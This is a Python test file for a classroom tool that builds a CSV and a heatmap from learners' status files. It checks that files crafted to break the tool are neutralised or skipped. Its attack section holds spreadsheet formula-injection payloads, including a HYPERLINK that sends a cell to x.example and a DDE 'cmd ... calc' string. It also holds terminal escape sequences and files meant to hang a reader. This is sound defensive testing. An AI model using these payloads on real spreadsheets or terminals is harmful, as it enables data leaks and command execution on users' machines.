"""`kata class-report`: a class's status files as a CSV and a heatmap, checked as a teacher uses it, and
against files made to break it (issue 18: no stray file fakes a row, no bad file ends in an internal error,
nothing a file says reaches a spreadsheet as a formula or the terminal as an escape sequence)."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from classroom_helpers import fabricated_class, status, with_change

from checker import class_report, cli
from checker.project import ROOT
from checker.stages import all_stages
from checker.status_json import MAX_BYTES, failure_document, load_status

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # set the terminal's title, clear the screen, turn red


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def write(folder: Path, name: str, document) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(document if isinstance(document, str) else json.dumps(document), encoding="utf-8")
    return path


def class_report_subprocess(args: list[str], cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    """`kata class-report ARGS` in a process of its own (a hang becomes a timeout, not a stuck test run),
    with this checker: run outside a clone, kata uses the checker that is installed."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("KATA_", "PYTEST_"))}
    env.update(PYTHONPATH=str(ROOT), MPLBACKEND="Agg")
    return subprocess.run([sys.executable, "-m", "checker", "class-report", *args], cwd=cwd, env=env, text=True,
                          capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL)


def where_counts(out: str) -> int:
    """The learners the "Where learners are" lines account for."""
    lines = out.split("Where learners are (the first stage that does not pass):\n")[1].splitlines()
    counts = []
    for line in lines:
        match = re.match(r"^\s+(\d+)  ", line)
        if not match:
            break
        counts.append(int(match.group(1)))
    return sum(counts)


def test_class_report_of_50_learners_with_foreign_and_broken_files(tmp_path, capsys):
    learners = fabricated_class(50)
    for document in learners[:48]:
        write(tmp_path, f"{document['learner']}.json", document)
    for name, document in (("alice", learners[48]), ("bob", learners[49])):  # as downloaded artifacts
        document["learner"] = None
        write(tmp_path, f"{name}/kata-status.json", document)
    write(tmp_path, "broken.json", '{"schema": 1, "stages": [')
    write(tmp_path, "package.json", {"name": "something else"})
    write(tmp_path, "future.json", with_change(learners[0], lambda d: d.update(schema=2)))
    write(tmp_path, "bad-state.json", with_change(learners[0], lambda d: d["stages"][0].update(state="finished")))

    assert cli.main(["class-report", str(tmp_path)]) == 0
    out, err = capsys.readouterr()
    skipped = sorted(re.findall(r"^skipped (\S+): it (.*)$", err, re.M))
    assert [name for name, _ in skipped] == ["bad-state.json", "broken.json", "future.json", "package.json"]
    reasons = dict(skipped)
    assert reasons["broken.json"].startswith("is not JSON")
    assert reasons["package.json"] == "is JSON, but not the output of kata status --json"
    assert reasons["future.json"].startswith("has schema 2")
    assert "$.stages[0].state" in reasons["bad-state.json"]
    assert out.startswith("Read the status files of 50 learners (4 other files skipped).\n"
                          "Where learners are (the first stage that does not pass):\n")
    assert where_counts(out) == 50  # every learner is somewhere in the list

    rows = read_csv(tmp_path / "class-report.csv")
    assert len(rows) == 50
    assert {"alice", "bob", "learner-00"} <= {row["learner"] for row in rows}
    ids = [stage.id for stage in all_stages()]
    assert list(rows[0])[-len(ids):] == ids
    by_name = {row["learner"]: row for row in rows}
    for document in learners[:48]:
        assert [by_name[document["learner"]][i] for i in ids] == [s["state"] for s in document["stages"]]
        assert by_name[document["learner"]]["stages_passed"] == str(document["stages_passed"])

    # The most failing tests, each learner counted once: the counts the report prints come from the files.
    failing = {}
    for document in learners:
        for stage in document["stages"]:
            for test in stage["failing_tests"]:
                failing[(stage["number"], test)] = failing.get((stage["number"], test), 0) + 1
    top = max(failing.values())
    printed = re.findall(r"^\s+(\d+)  stage (\d+)  (\S+)$", out, re.M)
    assert printed and int(printed[0][0]) == top
    assert all(failing[(int(number), test)] == int(count) for count, number, test in printed)

    png = (tmp_path / "class-report.png").read_bytes()
    assert png.startswith(b"\x89PNG") and len(png) > 20_000


def test_class_report_without_status_files_or_folder_says_what_to_do(tmp_path, capsys):
    (tmp_path / "notes.json").write_text("[]")
    assert cli.main(["class-report", str(tmp_path)]) == 1
    assert "Error: no kata status --json file in" in capsys.readouterr().err
    assert cli.main(["class-report", str(tmp_path / "missing")]) == 2
    assert "is not a folder" in capsys.readouterr().err


def test_load_status_reads_what_kata_status_writes(tmp_path):
    path = write(tmp_path, "s.json", status(7))
    document, why = load_status(path)
    assert why is None and document["stages_passed"] == 7


# Six learners, as the issue simulated them ---------------------------------------------------------


def six_learners() -> dict[str, dict]:
    """Six learners with names of 30 characters: not started; stuck at stage 4; every stage; stage 3
    broken after stages 4-10 passed; an endless loop in stage 5 (stopped, the stages after it run); a
    suite replaced (restored by the workflow: the learner's own mistake shows)."""
    total = len(all_stages())

    def passing(numbers, failing_at=None, message="wrong"):
        document = status(0)
        for stage in document["stages"]:
            state = "passed" if stage["number"] in numbers else "not started"
            stage.update(state=state, tests_passed=stage["tests_total"] if state == "passed" else 0,
                         failing_tests=[], first_failure=None)
        if failing_at:
            stage = document["stages"][failing_at - 1]
            stage.update(state="failing", tests_passed=3, failing_tests=[f"test_{stage['id']}_worked_example"],
                         first_failure=message)
        leading = next((i for i, s in enumerate(document["stages"]) if s["state"] != "passed"), total)
        document["stages_passed"] = leading
        document["current_stage"] = document["stages"][leading]["id"] if leading < total else None
        return document

    names = ["mnist-kata-assignment-ana-love", "mnist-kata-assignment-ben-okor", "mnist-kata-assignment-cleo-sin",
             "mnist-kata-assignment-dan-reye", "mnist-kata-assignment-eve-mart", "mnist-kata-assignment-finn-ols"]
    assert {len(name) for name in names} == {30}
    documents = [passing([]), passing([1, 2, 3], failing_at=4), passing(range(1, total + 1)),
                 passing([1, 2, *range(4, 11)], failing_at=3),
                 passing([1, 2, 3, 4], failing_at=5, message="stopped after 30 s: is there an endless loop in "
                                                              "dense_backward()?"),
                 passing([1, 2, 3], failing_at=4)]
    for name, document in zip(names, documents):
        document["learner"] = name
    return dict(zip(names, documents))


def test_six_learners_every_one_appears_names_are_whole_regressions_show_and_paths_are_where_the_files_are(
        tmp_path):
    learners = six_learners()
    artifacts = tmp_path / "artifacts"
    for name, document in learners.items():
        write(artifacts, f"{name}/kata-status.json", document)
    done = class_report_subprocess(["artifacts", "--out", "report"], cwd=tmp_path)  # outside any clone
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert "Wrote report/class-report.csv and report/class-report.png.\n" in out  # where they are, from here
    assert (tmp_path / "report" / "class-report.csv").is_file() and (tmp_path / "report" / "class-report.png").is_file()
    assert where_counts(out) == 6
    assert "mnist-kata-assignment-dan-reye: stage 3 (9 of 14 stages pass)" in out

    rows = {row["learner"]: row for row in read_csv(tmp_path / "report" / "class-report.csv")}
    assert set(rows) == set(learners)  # names whole, every learner a row
    dan = rows["mnist-kata-assignment-dan-reye"]
    assert (dan["stages_passed"], dan["stages_passing"], dan["regressions"]) == ("2", "9", "softmax")
    assert (dan["softmax"], dan["cross_entropy"], dan["optimizers"]) == ("failing", "passed", "passed")
    eve = rows["mnist-kata-assignment-eve-mart"]
    assert (eve["backprop"], eve["regressions"]) == ("failing", "")

    # The figure: every name drawn whole and inside the figure, the regression marked in its cell.
    stages = class_report.stage_columns(read_learners(artifacts))
    figure = class_report.class_figure(read_learners(artifacts), stages, [])
    figure.canvas.draw()
    heat = figure.axes[0]
    labels = heat.get_yticklabels()
    assert sorted(label.get_text() for label in labels) == sorted(learners)
    for label in labels:
        assert label.get_window_extent().x0 >= 0, f"{label.get_text()!r} is cut on the left"
    marks = [(round(t.get_position()[0]), t.get_text()) for t in heat.texts]
    assert marks == [(2, "!")]  # stage 3 of the learner who broke it


def read_learners(folder: Path):
    learners, _ = class_report.read_class(folder)
    return learners


# Files made to break the report ------------------------------------------------------------------------


def test_cells_that_would_be_spreadsheet_formulas_are_neutralised(tmp_path, capsys):
    attacks = {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")": "=", "+1+1": "+", "-2+3": "-",
               "@SUM(1+1)*cmd|' /C calc'!A0": "@", "\tx": "\t", "\rx": "\r"}
    for i, name in enumerate(attacks):
        write(tmp_path, f"{i}.json", with_change(status(2, "failing"), lambda d, n=name: d.update(
            learner=n, kata={"name": "mnist-kata", "version": "=cmd|' /C calc'!A0"})))
    assert cli.main(["class-report", str(tmp_path)]) == 0
    capsys.readouterr()
    rows = read_csv(tmp_path / "class-report.csv")
    for row in rows:
        for value in row.values():
            assert not value.startswith(class_report.FORMULA_STARTS), value
        assert row["kata_version"] == "'=cmd|' /C calc'!A0"
    learners = sorted(row["learner"] for row in rows)
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in learners and "'+1+1" in learners
    assert "x" in learners  # a name is stripped of the spaces around it
    # A tab or a carriage return inside a cell is a control character, shown as ?; the rest are neutralised.
    assert [class_report.cell(v) for v in ("=1", "+1", "-1", "@A1", "\t=1", "a\r=1", "ok", 7)] == [
        "'=1", "'+1", "'-1", "'@A1", "?=1", "a?=1", "ok", 7]


def test_escape_sequences_from_the_files_never_reach_the_terminal(tmp_path):
    write(tmp_path, f"evil{ESCAPE}name.json", "not json")
    document = status(3, "failing", learner=f"eve{ESCAPE}", failing=[f"test_cross_entropy_{ESCAPE}x"])
    document["stages"][3]["title"] = f"Cross{ESCAPE}"
    write(tmp_path, "eve.json", document)
    write(tmp_path, "current.json", with_change(status(3, "failing"), lambda d: d.update(
        current_stage=f"cross_entropy{ESCAPE}")))
    done = class_report_subprocess([str(tmp_path)], cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    printed = done.stdout + done.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", printed), repr(printed)
    assert "test_cross_entropy_?]0;owned??[2J?[31mx" in done.stdout  # named, harmless
    assert "skipped evil?]0;owned??[2J?[31mname.json: it is not JSON" in done.stderr
    assert re.search(r"skipped current\.json: it does not match the status schema: \$\.current_stage: "
                     r"'cross_entropy\\x1b", done.stderr)  # a document that contradicts itself is not trusted
    csv_text = (tmp_path / "class-report.csv").read_text(encoding="utf-8")
    assert "\x1b" not in csv_text and "\x07" not in csv_text
    assert "eve?]0;owned??[2J?[31m," in csv_text


def test_a_document_that_contradicts_itself_is_skipped(tmp_path, capsys):
    write(tmp_path, "good.json", status(3, "failing", learner="good"))
    lies = {
        "passed.json": lambda d: d.update(stages_passed=14),
        "current.json": lambda d: d.update(current_stage="pool"),
        "total.json": lambda d: d.update(stages_total=20),
        "tests.json": lambda d: d["stages"][0].update(tests_passed=99),
        "order.json": lambda d: d["stages"].reverse(),
    }
    for name, change in lies.items():
        write(tmp_path, name, with_change(status(3, "failing", learner=name), change))
    assert cli.main(["class-report", str(tmp_path)]) == 0
    out, err = capsys.readouterr()
    skipped = dict(re.findall(r"^skipped (\S+): it (.*)$", err, re.M))
    assert set(skipped) == set(lies)
    assert "$.stages_passed: 14, but the stages say 3 pass from stage 1 on" in skipped["passed.json"]
    assert "$.current_stage: 'pool', but the stages say 'cross_entropy'" in skipped["current.json"]
    assert [row["learner"] for row in read_csv(tmp_path / "class-report.csv")] == ["good"]


def test_two_files_of_one_learner_give_one_row_the_newer_and_say_so(tmp_path, capsys):
    write(tmp_path, "old/kata-status.json", with_change(status(2, "failing", learner="ana"), lambda d: d.update(
        generated_at="2026-11-20T09:00:00Z")))
    write(tmp_path, "new/kata-status.json", with_change(status(5, "failing", learner="ana"), lambda d: d.update(
        generated_at="2026-11-26T09:00:00Z")))
    assert cli.main(["class-report", str(tmp_path)]) == 0
    out, err = capsys.readouterr()
    rows = read_csv(tmp_path / "class-report.csv")
    assert [(row["learner"], row["stages_passed"], row["file"]) for row in rows] == [
        ("ana", "5", "new/kata-status.json")]
    assert ("skipped old/kata-status.json: it is another status file of ana, older than new/kata-status.json "
            "(2026-11-20T09:00:00Z, not 2026-11-26T09:00:00Z): the newer counts") in err
    assert out.startswith("Read the status files of 1 learner (1 other file skipped).")


def test_a_learner_whose_status_records_an_error_appears_with_it(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("KATA_LEARNER", "bo")
    write(tmp_path, "bo.json", failure_document("the workflow's steps: restore failure"))
    write(tmp_path, "al.json", status(4, "failing", learner="al"))
    assert cli.main(["class-report", str(tmp_path)]) == 0
    out, _ = capsys.readouterr()
    assert re.search(r"^\s+1  without progress: their kata status did not finish .*: bo$", out, re.M)
    assert where_counts(out) == 2
    row = {r["learner"]: r for r in read_csv(tmp_path / "class-report.csv")}["bo"]
    assert row["error"] == "the workflow's steps: restore failure"


@pytest.mark.parametrize("kind", ["nested 200,000 deep", "a link to /dev/zero", "a FIFO", "over 1 MB",
                                  "NaN", "a link to a folder above", "not UTF-8"])
def test_one_bad_file_is_one_skipped_line_never_a_hang_or_an_internal_error(tmp_path, kind):
    """Each file alone, beside a good one: the report is written, the bad file named with its reason,
    in bounded time (the FIFO has no writer: reading it would block for ever)."""
    write(tmp_path, "good.json", status(3, "failing", learner="good"))
    bad = tmp_path / "bad.json"
    if kind == "nested 200,000 deep":
        bad.write_text("[" * 200_000 + "]" * 200_000)
    elif kind == "a link to /dev/zero":
        bad.symlink_to("/dev/zero")
    elif kind == "a FIFO":
        os.mkfifo(bad)
    elif kind == "over 1 MB":
        bad.write_text(json.dumps(with_change(status(3), lambda d: d.update(learner="x" * (MAX_BYTES + 1)))))
    elif kind == "NaN":
        bad.write_text(json.dumps(status(14)).replace('"test_accuracy": 0.9805', '"test_accuracy": NaN'))
    elif kind == "a link to a folder above":
        (tmp_path / "loop").symlink_to(tmp_path, target_is_directory=True)
        bad.write_text("[]")
    else:
        bad.write_bytes(b'{"learner": "\xff"}')
    done = class_report_subprocess([str(tmp_path)], cwd=tmp_path, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "internal error" not in done.stderr and "Traceback" not in done.stderr
    reasons = {"nested 200,000 deep": "is nested too deeply", "a link to /dev/zero": "is not a regular file",
               "a FIFO": "is not a regular file", "over 1 MB": "is too large",
               "NaN": "is not JSON (NaN is not a JSON number)", "a link to a folder above": "is JSON, but not",
               "not UTF-8": "is not UTF-8 text"}
    assert f"skipped bad.json: it {reasons[kind]}" in done.stderr
    assert done.stderr.count("skipped ") == 1  # the loop folder is not followed
    assert "Read the status files of 1 learner (1 other file skipped)." in done.stdout
    assert (tmp_path / "class-report.csv").is_file() and (tmp_path / "class-report.png").is_file()


def test_a_name_that_looks_like_a_formula_to_matplotlib_is_drawn_as_text(tmp_path, capsys):
    write(tmp_path, "a.json", status(3, "failing", learner="$\\frac{1}{0"))  # bad mathtext stops a figure
    write(tmp_path, "b.json", status(2, "failing", learner="x" * 200, failing=["test_softmax_$x_$"]))
    assert cli.main(["class-report", str(tmp_path)]) == 0
    capsys.readouterr()
    assert (tmp_path / "class-report.png").stat().st_size > 20_000
    assert {len(row["learner"]) for row in read_csv(tmp_path / "class-report.csv")} == {11, 200}  # the CSV keeps it whole
